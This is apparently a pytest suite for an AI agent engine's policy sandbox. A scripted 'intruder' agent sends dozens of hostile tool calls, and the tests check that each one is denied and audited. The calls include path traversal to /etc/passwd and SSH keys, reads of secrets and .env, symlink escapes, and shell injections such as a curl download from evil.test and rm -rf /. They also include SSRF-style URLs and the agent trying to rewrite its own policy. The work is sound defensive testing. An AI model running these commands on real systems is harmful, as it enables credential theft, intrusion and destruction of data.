"""Hostile tool calls through the real engine: every one is denied, recorded, explained, and harmless.

One pipeline run with a scripted agent makes all the calls of the table (plus a few allowed ones,
so the denials are not vacuous) against a workspace on disk with a git repository, symlinks out of
the workspace, secrets, a `.env`, and files outside the workspace. Then, per call: a `policy.denied`
event, an audit record (`policy.deny`, outcome `denied`), and a tool result that says why; and for
the whole run: no file outside the allowed paths was read or written and no injected command ran.
"""

from __future__ import annotations

import asyncio
import hashlib
import http.server
import json
import os
import sqlite3
import subprocess
import threading
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from builderos.engine.agents import ScriptedAgent
from builderos.engine.runner import Engine, RunOptions
from builderos.store.audit import verify_db
from builderos.store.db import Store

PROJECT = "version: 1\nname: hostile\nmodels: {default: offline, profiles: {offline: {provider: scripted}}}\n"
POLICY = """\
version: 1
default: deny
agents:
  intruder: {tools: [fs.read, fs.write, fs.list, fs.delete, shell.run, http.fetch, git.status, git.diff]}
paths:
  allow: ["src/**", "tests/**", "README.md"]
  deny: ["**/.env", ".git/**", "secrets/**", "src/café/**", "src/private"]
commands:
  allow: ["pytest *", "python -m *", "echo *"]
  deny: ["rm -rf *"]
network:
  allow: ["localhost", "127.0.0.1"]
"""
AGENT = """\
kind: agent
name: intruder
role: Builder
model: offline
tools: [fs.read, fs.write, fs.list, shell.run, http.fetch, git.status, git.diff]
"""
PIPELINE = "kind: pipeline\nname: attack\nsteps:\n  - {id: attack, agent: intruder}\n"

CANARIES = {
    "outside/secret.txt": "OUTSIDE-CANARY-3f1a",
    "ws/.env": "ENV-CANARY-77b2",
    "ws/secrets/key.txt": "SECRETS-CANARY-0c9d",
    "ws/src/café/notes.txt": "CAFE-CANARY-5e21",
}
GIT_CANARY = "GIT-CONFIG-CANARY-91aa"
ETC_PASSWD_MARK = "root:x:0:0"

WS_ONLY = "paths: workspace only"
PATH_DENY = "paths.deny"
PATH_ALLOW = "paths.allow"
SHELL = "commands: shell syntax"
CMD_ALLOW = "commands.allow"
CMD_DENY = "commands.deny: rm -rf *"
NET_ALLOW = "network.allow"
AGENT_TOOLS = "agent intruder: tools"
UNKNOWN = "unknown tool"


@dataclass(frozen=True)
class Case:
    id: str
    tool: str
    args: dict[str, Any]
    rule: str  # a fragment of the rule the denial must name


def cases(tmp: Path) -> list[Case]:
    ws = tmp / "ws"
    sent = tmp / "pwned"
    out = tmp / "outside"
    r = "fs.read"
    w = "fs.write"
    x = "shell.run"
    h = "http.fetch"
    bad = "owned\n"
    return [
        # path traversal
        Case("dotdot", r, {"path": "../outside/secret.txt"}, WS_ONLY),
        Case("src-dotdot-write", w, {"path": "src/../../outside/planted.txt", "content": bad}, WS_ONLY),
        Case("dot-src-etc-passwd", r, {"path": "./src/../../../etc/passwd"}, WS_ONLY),
        Case("deep-dotdot", r, {"path": "src/" + "../" * 40 + "etc/passwd"}, WS_ONLY),
        Case("dotdot-then-back-in", r, {"path": "../ws/.env"}, PATH_DENY),
        # symlinks out of the workspace
        Case("symlink-to-etc", r, {"path": "src/etc_link/passwd"}, WS_ONLY),
        Case("symlink-to-etc-write", w, {"path": "src/etc_link/builderos-evil", "content": bad}, WS_ONLY),
        Case("symlink-to-parent", r, {"path": "src/parent_link/outside/secret.txt"}, WS_ONLY),
        Case("symlink-root-to-git", r, {"path": "src/root_link/.git/config"}, PATH_DENY),
        Case("symlink-root-to-secrets", r, {"path": "src/root_link/secrets/key.txt"}, PATH_DENY),
        Case("symlinked-dir", r, {"path": "src/linked_secrets/key.txt"}, PATH_DENY),
        Case("symlinked-file-to-env", r, {"path": "src/env_link"}, PATH_DENY),
        Case("dangling-symlink-write", w, {"path": "src/dangling", "content": bad}, WS_ONLY),
        Case("symlink-root-to-store", r, {"path": "src/root_link/.builderos/builderos.db"}, PATH_DENY),
        # absolute paths and ~
        Case("abs-etc-passwd", r, {"path": "/etc/passwd"}, WS_ONLY),
        Case("abs-own-git", r, {"path": str(ws / ".git" / "config")}, PATH_DENY),
        Case("abs-outside-write", w, {"path": str(out / "planted.txt"), "content": bad}, WS_ONLY),
        Case("tilde", r, {"path": "~/.bashrc"}, WS_ONLY),
        Case("tilde-root", r, {"path": "~root/.ssh/id_rsa"}, WS_ONLY),
        Case("tilde-alone-write", w, {"path": "~", "content": bad}, WS_ONLY),
        # denied globs
        Case("secrets-dir", r, {"path": "secrets/key.txt"}, PATH_DENY),
        Case("env-root", r, {"path": ".env"}, PATH_DENY),
        Case("env-nested", r, {"path": "src/.env"}, PATH_DENY),
        Case("env-deep-write", w, {"path": "src/a/b/.env", "content": "X=1\n"}, PATH_DENY),
        Case("denied-folder-holds", w, {"path": "src/private/notes.txt", "content": bad}, PATH_DENY),
        Case("denied-folder-upper", r, {"path": "SRC/Private/notes.txt"}, PATH_DENY),
        # .git/ and the store
        Case("git-config", r, {"path": ".git/config"}, PATH_DENY),
        Case("git-hook-write", w, {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"}, PATH_DENY),
        Case("git-upper-case", r, {"path": ".GIT/config"}, PATH_DENY),
        Case("git-via-dotdot", r, {"path": "src/../.git/HEAD"}, PATH_DENY),
        Case("nested-git-write", w, {"path": "src/.git/config", "content": bad}, PATH_DENY),
        Case("store-db", r, {"path": ".builderos/builderos.db"}, PATH_DENY),
        Case("store-forge-record", w, {"path": ".builderos/runs/forged.json", "content": "{}"}, PATH_DENY),
        # unicode and case tricks
        Case("fullwidth-env", w, {"path": "src/．ｅｎｖ", "content": "X=1\n"}, PATH_DENY),
        Case("fullwidth-secrets", r, {"path": "ｓｅｃｒｅｔｓ/key.txt"}, PATH_DENY),
        Case("decomposed-cafe", r, {"path": unicodedata.normalize("NFD", "src/café/notes.txt")}, PATH_DENY),
        Case("upper-secrets", r, {"path": "SECRETS/key.txt"}, PATH_DENY),
        Case("upper-env", r, {"path": "src/.ENV"}, PATH_DENY),
        Case("zero-width-secrets", r, {"path": "sec\u200brets/key.txt"}, WS_ONLY),
        Case("bidi-override", w, {"path": "src/\u202etxt.exe", "content": bad}, WS_ONLY),
        # NUL bytes, control characters, not-a-path values
        Case("nul-byte", r, {"path": "src/app.py\x00.txt"}, WS_ONLY),
        Case("newline", w, {"path": "src/a\nb.py", "content": bad}, WS_ONLY),
        Case("escape-sequence", r, {"path": "src/\x1b[2Japp.py"}, WS_ONLY),
        Case("path-not-a-string", r, {"path": ["src/app.py"]}, WS_ONLY),
        Case("path-missing", r, {}, WS_ONLY),
        Case("backslash-traversal", r, {"path": "..\\outside\\secret.txt"}, PATH_ALLOW),
        # outside the allowed paths (the agent rewriting its own rules)
        Case(
            "rewrite-policy", w, {"path": "builderos.policy.yaml", "content": "default: allow\n"}, PATH_ALLOW
        ),
        Case("rewrite-agent", w, {"path": "agents/intruder.yaml", "content": bad}, PATH_ALLOW),
        # fs.list out of the workspace
        Case("list-dotdot", "fs.list", {"glob": "../*"}, WS_ONLY),
        Case("list-absolute", "fs.list", {"glob": "/etc/*"}, WS_ONLY),
        Case("list-src-dotdot", "fs.list", {"glob": "src/../../**"}, WS_ONLY),
        # command injection through arguments
        Case("semicolon", x, {"command": f"pytest -q; touch {sent}"}, SHELL),
        Case("dollar-paren", x, {"command": f"pytest $(touch {sent})"}, SHELL),
        Case("backticks", x, {"command": f"pytest `touch {sent}`"}, SHELL),
        Case("and-and", x, {"command": f"pytest && curl -o {sent} http://evil.test/x"}, SHELL),
        Case("pipe", x, {"command": f"python -m pytest | tee {sent}"}, SHELL),
        Case("redirect", x, {"command": f"echo owned > {sent}"}, SHELL),
        Case("env-expansion", x, {"command": "echo $HOME"}, SHELL),
        Case("newline-command", x, {"command": f"python -m pytest\ntouch {sent}"}, SHELL),
        Case("argv-injection", x, {"command": ["pytest", "-q", f"; touch {sent}"]}, SHELL),
        Case("not-allowed", x, {"command": f"touch {sent}"}, CMD_ALLOW),
        Case("python-c", x, {"command": f'python -c \'open("{sent}", "w")\''}, CMD_ALLOW),
        Case("sh-c", x, {"command": f"sh -c 'touch {sent}'"}, CMD_ALLOW),
        Case("program-by-path", x, {"command": f"{ws}/src/pytest -q"}, CMD_ALLOW),
        Case("quoted-program", x, {"command": "'pytest -q'"}, CMD_ALLOW),
        Case("rm-rf-star", x, {"command": "rm -rf *"}, CMD_DENY),
        Case("rm-rf-root", x, {"command": "rm -rf /"}, CMD_DENY),
        Case("rm-by-path", x, {"command": "/bin/rm -rf src"}, CMD_DENY),
        Case("unbalanced-quote", x, {"command": "pytest 'oops"}, "commands: not a command"),
        # hosts that are not allowed
        Case("host-evil", h, {"url": "http://evil.test/"}, NET_ALLOW),
        Case("host-suffix", h, {"url": "http://localhost.evil.test/"}, NET_ALLOW),
        Case("host-userinfo", h, {"url": "http://localhost@evil.test/"}, "network: no credentials"),
        Case("host-userinfo-port", h, {"url": "http://localhost:80@evil.test/"}, "network: no credentials"),
        Case("host-backslash", h, {"url": "http://evil.test\\@localhost/"}, "network: no credentials"),
        Case("host-fragment", h, {"url": "http://evil.test#@localhost/"}, NET_ALLOW),
        Case("host-ip-suffix", h, {"url": "http://127.0.0.1.nip.io/"}, NET_ALLOW),
        Case("host-ipv6-loopback", h, {"url": "http://[::1]:8080/"}, NET_ALLOW),
        Case("host-hex-ip", h, {"url": "http://0x7f000001/"}, NET_ALLOW),
        Case("scheme-file", h, {"url": "file:///etc/passwd"}, "network: http and https only"),
        Case("scheme-ftp", h, {"url": "ftp://localhost/"}, "network: http and https only"),
        Case("url-with-newline", h, {"url": "http://localhost/\r\nHost: evil.test"}, "network: not a URL"),
        # tools not in the agent's list, unknown tools
        Case("fs-delete-not-listed", "fs.delete", {"path": "src/app.py"}, AGENT_TOOLS),
        Case("git-commit-not-listed", "git.commit", {"message": "owned"}, AGENT_TOOLS),
        Case("unknown-os-system", "os.system", {"command": f"touch {sent}"}, UNKNOWN),
        Case("unknown-upper-case", "FS.READ", {"path": ".env"}, UNKNOWN),
        Case("unknown-mcp", "mcp.evil.exec", {"cmd": "id"}, UNKNOWN),
        Case("unknown-empty", "", {}, UNKNOWN),
        Case("unknown-trailing-space", "fs.read ", {"path": "src/app.py"}, UNKNOWN),
        Case("unknown-private-method", "decide.and.run", {}, UNKNOWN),
    ]


# -- the workspace and the run ------------------------------------------------------------------


def git(ws: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=T", "-c", "user.email=t@example.test", *args],
        cwd=ws,
        check=True,
        capture_output=True,
    )


def build(tmp: Path) -> Path:
    ws = tmp / "ws"
    for rel, text in {
        "builderos.yaml": PROJECT,
        "builderos.policy.yaml": POLICY,
        "agents/intruder.yaml": AGENT,
        "ship/attack.yaml": PIPELINE,
        "src/app.py": "print('hello')\n",
        "README.md": "# hostile\n",
    }.items():
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(text)
    for rel, text in CANARIES.items():
        (tmp / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp / rel).write_text(text + "\n")
    git(ws, "init", "-q", "-b", "main")
    git(ws, "add", "-A")
    git(ws, "commit", "-qm", "initial")
    git(ws, "config", "builderos.canary", GIT_CANARY)
    # tracked secrets changed since the commit: git.diff must not show them
    (ws / ".env").write_text(CANARIES["ws/.env"] + "-changed\n")
    (ws / "secrets" / "key.txt").write_text(CANARIES["ws/secrets/key.txt"] + "-changed\n")
    src = ws / "src"
    os.symlink("/etc", src / "etc_link")
    os.symlink("..", src / "root_link")
    os.symlink("../..", src / "parent_link")
    os.symlink("../secrets", src / "linked_secrets")
    os.symlink("../.env", src / "env_link")
    os.symlink(str(tmp / "outside" / "planted.txt"), src / "dangling")
    return ws


def tree(root: Path) -> dict[str, str]:
    """Every file under `root` (not following links) with its sha256; the store left out."""
    out: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d != ".builderos"]
        for name in files:
            p = Path(folder) / name
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            else:
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


class _Ok(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"local ok"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class Attack:
    tmp: Path
    ws: Path
    table: list[Case]
    allowed: list[dict[str, Any]]
    status: str
    events: list[dict[str, Any]]
    audit: list[dict[str, Any]]
    effects: list[tuple[str, str]]
    before: dict[str, str]
    after: dict[str, str]
    chain_ok: bool

    def of_call(self, type_: str, n: int) -> list[dict[str, Any]]:
        return [e for e in self.events if e["type"] == type_ and e["data"].get("n") == n]


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    tmp = tmp_path_factory.mktemp("hostile")
    ws = build(tmp)
    table = cases(tmp)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Ok)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    allowed: list[dict[str, Any]] = [
        {"tool": "fs.read", "args": {"path": "src/app.py"}},
        {"tool": "fs.write", "args": {"path": "src/new.py", "content": "x = 1\n"}},
        {"tool": "fs.list", "args": {"glob": "**/*"}},
        {"tool": "shell.run", "args": {"command": "echo hello world"}},
        {"tool": "http.fetch", "args": {"url": f"http://127.0.0.1:{port}/ok"}},  # another port, same host
        {"tool": "git.status", "args": {}},
        {"tool": "git.diff", "args": {}},
    ]
    calls = [{"tool": c.tool, "args": c.args} for c in table] + allowed
    before = tree(tmp)

    async def go() -> str:
        store = await Store.open(ws / ".builderos")
        try:
            agent = ScriptedAgent([{"step": "attack", "tool_calls": calls, "respond": "done"}])
            engine = Engine(ws, store, RunOptions(poll_interval=0.05, agent_runtime=agent))
            state = await engine.start("attack", {})
            return str(state.status)
        finally:
            await store.close()

    try:
        status = asyncio.run(go())
    finally:
        server.shutdown()
        server.server_close()
    after = tree(tmp)
    conn = sqlite3.connect(ws / ".builderos" / "builderos.db")
    try:
        events = [
            {"type": t, "data": json.loads(d)}
            for t, d in conn.execute("SELECT type, data FROM events ORDER BY run_id, seq")
        ]
        audit = [json.loads(r[0]) for r in conn.execute("SELECT record FROM audit ORDER BY seq")]
        effects = [(str(k), str(kind)) for k, kind in conn.execute("SELECT key, kind FROM effects")]
        chain_ok = verify_db(conn).ok
    finally:
        conn.close()
    yield Attack(tmp, ws, table, allowed, status, events, audit, effects, before, after, chain_ok)


# -- per call -----------------------------------------------------------------------------------

_TABLE = cases(Path("/tmp/ids-only"))


def test_the_table_is_large_enough() -> None:
    assert len(_TABLE) >= 40
    assert len({c.id for c in _TABLE}) == len(_TABLE)


@pytest.mark.parametrize("index", range(len(_TABLE)), ids=[c.id for c in _TABLE])
def test_each_hostile_call_is_denied_recorded_and_explained(attack: Attack, index: int) -> None:
    case = attack.table[index]
    n = index + 1
    calls = attack.of_call("tool.call", n)
    assert len(calls) == 1 and calls[0]["data"]["tool"] == case.tool
    denied = attack.of_call("policy.denied", n)
    assert len(denied) == 1, f"{case.id}: no policy.denied event"
    rule = denied[0]["data"]["rule"]
    assert case.rule in rule, f"{case.id}: denied by {rule!r}, expected {case.rule!r}"
    assert denied[0]["data"]["reason"]
    records = [
        a
        for a in attack.audit
        if a["action"] == "policy.deny"
        and a["details"].get("n") == n
        and a["details"].get("tool") == case.tool
    ]
    assert len(records) == 1, f"{case.id}: no audit record"
    assert records[0]["outcome"] == "denied"
    assert records[0]["details"]["rule"] == rule
    assert records[0]["actor"]["type"] == "system"
    results = attack.of_call("tool.result", n)
    assert len(results) == 1
    result = results[0]["data"]["result"]
    assert result.get("denied") is True and result.get("rule") == rule
    assert result["error"].startswith(f"denied by policy ({rule}): ")
    assert denied[0]["data"]["reason"] in result["error"]  # the agent is told why


# -- the whole run --------------------------------------------------------------------------------


def test_the_run_carries_on_after_denials_and_the_chain_verifies(attack: Attack) -> None:
    assert attack.status == "succeeded"
    assert attack.chain_ok
    denials = [e for e in attack.events if e["type"] == "policy.denied"]
    assert len(denials) == len(attack.table)  # the allowed calls were not denied


def test_allowed_calls_still_work(attack: Attack) -> None:
    first = len(attack.table) + 1
    result = {
        c["tool"]: attack.of_call("tool.result", first + i)[0]["data"]["result"]
        for i, c in enumerate(attack.allowed)
    }
    assert result["fs.read"]["content"] == "print('hello')\n"
    assert (attack.ws / "src" / "new.py").read_text() == "x = 1\n"
    assert result["shell.run"]["exit_code"] == 0 and result["shell.run"]["stdout"] == "hello world\n"
    assert result["http.fetch"] == {"status": 200, "body": "local ok"}
    listed = result["fs.list"]["files"]
    assert "src/app.py" in listed and "README.md" in listed
    # nothing the agent could not read is listed, not even through links
    assert not [f for f in listed if f.startswith(("secrets/", ".git/", ".builderos/", "src/café"))]
    assert not [f for f in listed if f.endswith(".env") or "_link" in f or "linked_secrets" in f]
    assert "builderos.policy.yaml" not in listed
    # git answers leave denied files out: no name, no content
    for tool in ("git.status", "git.diff"):
        text = json.dumps(result[tool])
        assert result[tool]["exit_code"] == 0, result[tool]
        assert ".env" not in text and "secrets/" not in text and "CANARY" not in text


def test_nothing_outside_the_allowed_paths_was_read_or_written(attack: Attack) -> None:
    changed = {
        k for k in set(attack.before) | set(attack.after) if attack.before.get(k) != attack.after.get(k)
    }
    assert changed == {"ws/src/new.py"}, changed  # the one allowed write; git's index may not move either
    assert not (attack.tmp / "outside" / "planted.txt").exists()
    assert not (attack.tmp / "pwned").exists(), "an injected command ran"
    assert (attack.ws / "src" / "app.py").exists()  # fs.delete was denied
    # the only effects are the allowed write and the allowed command (commands go through the ledger too)
    assert sorted(kind for _, kind in attack.effects) == ["fs.write", "shell.run"]
    # no content of a protected file reached the agent (or the store)
    every_result = json.dumps([e for e in attack.events if e["type"] == "tool.result"], ensure_ascii=False)
    for canary in [*CANARIES.values(), GIT_CANARY, ETC_PASSWD_MARK]:
        assert canary not in every_result, canary
